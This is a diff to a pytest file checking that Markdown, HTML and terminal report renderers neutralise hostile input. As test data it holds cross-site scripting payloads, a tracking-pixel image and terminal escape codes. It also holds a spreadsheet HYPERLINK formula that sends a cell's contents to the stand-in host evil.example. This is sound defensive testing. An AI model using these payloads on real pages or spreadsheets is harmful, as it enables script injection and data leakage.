@@ -20,7 +20,8 @@ pytest.importorskip("sqlite_utils")
 IMG = '<img src=x onerror=alert(1) title="<">'
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-PAYLOADS = [IMG, SCRIPT, "<svg/onload=alert(1)>", "<!-- x --><iframe src=javascript:alert(1)>", "</sub><b>x"]
+PAYLOADS = [IMG, SCRIPT, "<svg/onload=alert(1)>", "<!-- x --><iframe src=javascript:alert(1)>", "</sub><b>x",
+            "![t](http://tracker.example/pixel.png)"]
 RAW_TAG = re.compile(r"<(?!/?sub>)[/A-Za-z!?]")
 """Any tag but the renderer's own `<sub>`: what a Markdown viewer allowing raw HTML would run."""
 
@@ -37,6 +38,7 @@ def test_markdown_report_lets_no_html_through(payload: str) -> None:
     text = markdown.render(evil_report(payload))
     outside_code = re.sub(r"`[^`\n]*`", "", text)  # a code span shows its text literally
     assert not RAW_TAG.search(outside_code), text
+    assert not re.search(r"(?<!\\)!\[", outside_code), text  # no remote image is fetched
     header = text.splitlines()[2]
     assert header.count("`") == 2  # the file name stays inside its code span
 
@@ -44,7 +46,9 @@ def test_markdown_report_lets_no_html_through(payload: str) -> None:
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_html_report_escapes_everything(payload: str) -> None:
     page = html.render(evil_report(payload))
-    assert payload not in page and "onerror=alert" not in page.replace("onerror=alert(1) title=&quot;", "")
+    if "<" in payload:
+        assert payload not in page
+    assert "onerror=alert" not in page.replace("onerror=alert(1) title=&quot;", "")
 
 
 def test_markdown_names_are_escaped_inline() -> None:
@@ -89,4 +93,5 @@ def _number(cell: str) -> bool:
 
 
 def test_terminal_escape_codes_are_made_visible() -> None:
-    assert terminal_safe("Ana\x1b]0;pwned\x07 \x1b[2J\r\x9b31m ok\n") == "Ana\\x1b]0;pwned\\x07 \\x1b[2J\\r\\x9b31m ok\n"
+    shown = terminal_safe("Ana\x1b]0;pwned\x07 \x1b[2J\r\x9b31m ok\n")
+    assert shown == "Ana\\x1b]0;pwned\\x07 \\x1b[2J\\r\\x9b31m ok\n"
